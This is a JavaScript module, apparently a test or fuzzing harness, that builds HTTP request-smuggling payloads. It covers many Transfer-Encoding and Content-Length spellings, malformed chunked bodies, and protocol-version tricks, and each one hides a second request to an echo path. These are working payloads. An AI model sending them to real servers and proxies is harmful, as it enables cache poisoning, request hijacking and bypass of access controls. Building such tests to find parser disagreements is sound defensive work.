// Requests that servers and proxies may understand differently (request smuggling): each hides a second request, which
// only one of two servers that disagree about the end of the first would see.

const HIDDEN = '/echo/hidden';

const hidden = (id) => `GET ${HIDDEN}/${id} HTTP/1.1\r\nHost: a\r\n\r\n`;

const request = (line, fields, body) =>
  `${line}\r\nHost: a\r\n${fields.map((field) => `${field}\r\n`).join('')}\r\n${body}`;

/** Spellings of the field that some parsers accept. */
const TRANSFER_ENCODINGS = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;a=b',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: identity',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:\n chunked',
  ' Transfer-Encoding: chunked',
  'X: y\r\n Transfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'X: y\x00\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding\x00: chunked',
  'Transfer-Encod\xefng: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
];

/** Spellings of a length that some parsers accept. */
const LENGTHS = (length) => [
  `Content-Length: ${length}`,
  `Content-Length: +${length}`,
  `Content-Length: -${length}`,
  `Content-Length: 0${length}`,
  `Content-Length: 0x${length.toString(16)}`,
  `Content-Length: ${length}, ${length}`,
  `Content-Length: ${length}, 0`,
  `Content-Length: 0, ${length}`,
  `Content-Length: ${length} 0`,
  `Content-Length: ${length}\x00`,
  `Content-Length: ${length}\x0b`,
  `Content-Length: ${length}.0`,
  `Content-Length: ${length}e0`,
  `Content-Length: "${length}"`,
  `Content-Length : ${length}`,
  `Content-Length:\r\n ${length}`,
  `Content-Length\x00: ${length}`,
  `Content_Length: ${length}`,
  `Content-Length: ${length}\r\nContent-Length: 0`,
  `Content-Length: 0\r\nContent-Length: ${length}`,
  `Content-Length: ${length}\r\nContent-Length: ${length}`,
  `Content-Length: 0\nContent-Length: ${length}`,
  `Content-Length: 0\rContent-Length: ${length}`,
  `X: y\r\n Content-Length: ${length}`,
  `Connection: Content-Length\r\nContent-Length: ${length}`,
  `Connection: close, Content-Length\r\nContent-Length: ${length}`,
  `Content-Length: ${2n ** 64n + BigInt(length)}`,
  `Content-Length: ${2n ** 32n + BigInt(length)}`,
];

/** Chunked bodies whose end some parsers see elsewhere. */
const CHUNKED = (rest) => {
  const size = rest.length.toString(16);
  return [
    `0\r\n\r\n${rest}`,
    `0\n\n${rest}`,
    `0\r\n\n${rest}`,
    `0\r\r\n${rest}`,
    `00000000000000000000\r\n\r\n${rest}`,
    `0;a=b\r\n\r\n${rest}`,
    `0;a="\r\n\r\n${rest}"\r\n\r\n`,
    `0;\n\r\n\r\n${rest}`,
    `0 \r\n\r\n${rest}`,
    `0x0\r\n\r\n${rest}`,
    `-0\r\n\r\n${rest}`,
    `+0\r\n\r\n${rest}`,
    `0\r\nX: y\r\n\r\n${rest}`,
    `0\r\nTransfer-Encoding: identity\r\nContent-Length: 5\r\n\r\n${rest}`,
    `0\r\n X: y\r\n\r\n${rest}`,
    `1\r\nZ\r\n0\r\n\r\n${rest}`,
    `1\r\nZZ0\r\n\r\n${rest}`,
    `1\nZ\n0\n\n${rest}`,
    `1\r\nZ\n0\r\n\r\n${rest}`,
    `1;\nZ\r\n0\r\n\r\n${rest}`,
    `2;\n${'xx'}\r\n${size}\r\n0\r\n\r\n${rest}\r\n0\r\n\r\n`,
    `10000000000000001\r\nZ\r\n0\r\n\r\n${rest}`,
    `100000001\r\nZ\r\n0\r\n\r\n${rest}`,
    `${size}\r\n${rest}\r\n0\r\n\r\n`,
    `${size}\n${rest}\n0\n\n`,
    `\r\n0\r\n\r\n${rest}`,
    `g\r\n\r\n${rest}`,
  ];
};

const LINES = [
  'POST /echo/ID HTTP/1.1',
  'GET /echo/ID HTTP/1.1',
  'HEAD /echo/ID HTTP/1.1',
  'DELETE /echo/ID HTTP/1.1',
  'OPTIONS /echo/ID HTTP/1.1',
  'POST /echo/ID HTTP/1.0',
  'POST http://b/echo/ID HTTP/1.1',
];

/** Yields the bytes of every payload for an identifier. */
export function payloadsFor(id) {
  const all = [];
  const rest = hidden(id);
  const add = (name, bytes) => all.push({ name, bytes: Buffer.from(bytes, 'latin1') });
  for (const template of LINES) {
    const line = template.replace('ID', id);
    for (const field of TRANSFER_ENCODINGS) {
      const chunked = `0\r\n\r\n${rest}`;
      add(`${template}, ${field}`, request(line, [field], chunked));
      // The length covers the hidden request; the chunks end before it.
      add(`CL ${template}, ${field}`, request(line, [`Content-Length: ${chunked.length}`, field], chunked));
      add(
        `CL after ${template}, ${field}`,
        request(line, [field, `Content-Length: ${chunked.length}`], chunked),
      );
      // The length ends before the hidden request; the chunk covers it.
      const size = rest.length.toString(16);
      const covered = `${size}\r\n${rest}\r\n0\r\n\r\n`;
      add(
        `short CL ${template}, ${field}`,
        request(line, [`Content-Length: ${size.length + 2}`, field], covered),
      );
    }
    for (const field of LENGTHS(rest.length)) add(`${template}, ${field}`, request(line, [field], rest));
  }
  const post = LINES[0].replace('ID', id);
  for (const body of CHUNKED(rest))
    add(`chunks ${body.slice(0, 30)}`, request(post, [TRANSFER_ENCODINGS[0]], body));
  for (const field of [
    'Expect: 100-continue',
    'Expect: x',
    'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
    'Upgrade: websocket\r\nConnection: Upgrade',
  ])
    add(field, request(post, [field, `Content-Length: ${rest.length}`], rest));
  add('lines without CR', `POST /echo/${id} HTTP/1.1\nHost: a\nContent-Length: ${rest.length}\n\n${rest}`);
  add(
    'a space before the first field',
    `POST /echo/${id} HTTP/1.1\r\n Content-Length: 0\r\nHost: a\r\nContent-Length: ${rest.length}\r\n\r\n${rest}`,
  );
  add('HTTP/0.9', `GET /echo/${id}\r\n\r\n${rest}`);
  add(
    'another version',
    `POST /echo/${id} HTTP/1.2\r\nHost: a\r\nContent-Length: ${rest.length}\r\n\r\n${rest}`,
  );
  add('version 2', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${rest}`);
  return all;
}

/** The path of a hidden request. */
export const hiddenPath = (id) => `${HIDDEN}/${id}`;
